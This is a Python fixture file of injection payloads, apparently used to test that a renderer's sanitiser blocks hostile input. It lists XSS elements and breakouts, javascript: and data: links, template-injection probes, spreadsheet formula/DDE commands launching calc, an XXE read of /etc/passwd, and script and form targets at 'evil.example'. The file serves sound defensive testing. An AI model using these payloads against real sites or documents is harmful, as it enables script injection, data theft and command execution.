"""What somebody might write in a field to have something run, fetched, or put in a wrong place.

Whatever is an element has ``data-pwn``, whatever runs sets ``top.PWN``, and whatever asks asks
``evil.example``: none of the three may be seen in a browser.
"""

_RUN, _AT = "top.PWN=1", "https://evil.example"
MARK = chr(0xFDD5) + chr(0xFDD6) * 2 + chr(0xFDD6 + 9)  # as the renderer marks what is its own

ELEMENTS = (
    f"<script data-pwn>{_RUN}</script>",
    f"<script data-pwn src={_AT}/s.js></script>",
    f"<img data-pwn src=x onerror={_RUN}>",
    f"<svg data-pwn onload={_RUN}><script>{_RUN}</script></svg>",
    f"<svg data-pwn><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<iframe data-pwn src={_AT}></iframe>",
    f"<iframe data-pwn srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data-pwn data={_AT}></object><embed data-pwn src={_AT}>",
    f"<meta data-pwn http-equiv=refresh content=0;url={_AT}>",
    f"<base data-pwn href={_AT}/>",
    f"<style data-pwn>@import '{_AT}/s.css';*{{display:none}}</style>",
    f"<link data-pwn rel=stylesheet href={_AT}/s.css>",
    f"<form data-pwn action={_AT}><button>x</button></form>",
    f"<a data-pwn href=javascript:{_RUN} ping={_AT}>x</a>",
    f"<p data-pwn style=background:url({_AT}/p)>x</p>",
    f"<video data-pwn poster={_AT}/v><source onerror={_RUN} src=x></video>",
    f"<math data-pwn><mtext></p><img src=x onerror={_RUN}></mtext></math>",
    f"<template data-pwn shadowrootmode=open><img src=x onerror={_RUN}></template>",
    f"<details data-pwn open ontoggle={_RUN}>x</details>",
    f"<input data-pwn autofocus onfocus={_RUN}>",
    f"<scr<script>ipt data-pwn>{_RUN}</scr</script>ipt>",
    f"<noscript data-pwn><p title='</noscript><img src=x onerror={_RUN}>'>",
)
BREAKOUTS = (
    f'"><img data-pwn src=x onerror={_RUN}>',
    f"'><img data-pwn src=x onerror={_RUN}>",
    f'" onmouseover={_RUN} autofocus onfocus={_RUN} data-pwn="',
    f"' onmouseover={_RUN} autofocus onfocus={_RUN} data-pwn='",
    f"` onclick={_RUN} data-pwn=`",
    f" onclick={_RUN} data-pwn ",
    f"</title><script data-pwn>{_RUN}</script>",
    f"</textarea><script data-pwn>{_RUN}</script>",
    f"</style><script data-pwn>{_RUN}</script>",
    f"</script><script data-pwn>{_RUN}</script>",
    f"--><script data-pwn>{_RUN}</script><!--",
    f"]]><script data-pwn>{_RUN}</script>",
    f"&quot;&gt;&lt;img data-pwn src=x onerror={_RUN}&gt;",
    f"&#34;&#62;&#60;img data-pwn onerror={_RUN}&#62;",
    f'\\"}};{_RUN};//',
    f"';{_RUN};//",
    f'";{_RUN};//',
    "${top.PWN=1}",
    "{{7191*7}}",
    "{% for x in [1] %}{{ x * 50337 }}{% endfor %}",
    "{{ config.__class__.__mro__ }}",
    f"\u2028{_RUN}\u2029",
    f"\u202e{_RUN}",
)
LINKS = (
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](java&Tab;script:{_RUN})",
    f"[x](<java script:{_RUN}>)",
    f"[x](vbscript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    "[x](//evil.example/a)",
    f"<javascript:{_RUN}>",
    f"![x]({_AT}/i.png)",
    f'![x](x" onerror="{_RUN}" data-pwn=")',
    f'[x](https://www.example.no/ "\\" onclick={_RUN} data-pwn=\\"")',
    f"[x]: javascript:{_RUN}",
    f"# x {{: onclick={_RUN} data-pwn=1 }}",
    f"```html\n<script data-pwn>{_RUN}</script>\n```",
    f"`<script data-pwn>{_RUN}</script>`",
    f'[x](tel:1"onclick="{_RUN})',
    f'[x](mailto:a@b.no?"onclick="{_RUN})',
)
FILES = (
    "=cmd|'/C calc'!A1",
    '@SUM(1+1)*cmd|"/C calc"!A0',
    "+1+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/","x")',
    "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r><w:r><w:t>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "x\\r\\nBEGIN:VEVENT\\r\\nATTACH:https://evil.example",
)
SCHEMES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"\u0001javascript:{_RUN}",
)
URLS = (
    f'//evil.example" onclick="{_RUN}" data-pwn="',
    f'https://x.example.no/"onmouseover="{_RUN}" data-pwn="',
    f"https://x.example.no/'><script data-pwn>{_RUN}</script>",
    f"javascript&colon;{_RUN}",
    f"java%0ascript:{_RUN}",
    "https://x.example.no/{{7191*7}}",
)
TEXTS = (*ELEMENTS, *BREAKOUTS, *LINKS, *FILES)
ALL = "\n\n".join(TEXTS)
LINE = " ".join(one for one in TEXTS if "\n" not in one)

# The suite has room for one text of each kind; benchmarks/payloads.py tries all.
SHORT = (
    f"\"'><img data-pwn src=x onerror={_RUN}>",
    f"' onmouseover={_RUN} \" autofocus onfocus={_RUN} data-pwn=",
    f"--></title></textarea></style></script><script data-pwn>{_RUN}</script>",
    "{{7191*7}}",
    f"[x](javascript:{_RUN}) ![x]({_AT}/i) <{_AT}/s onclick={_RUN}>",
    FILES[4],
)
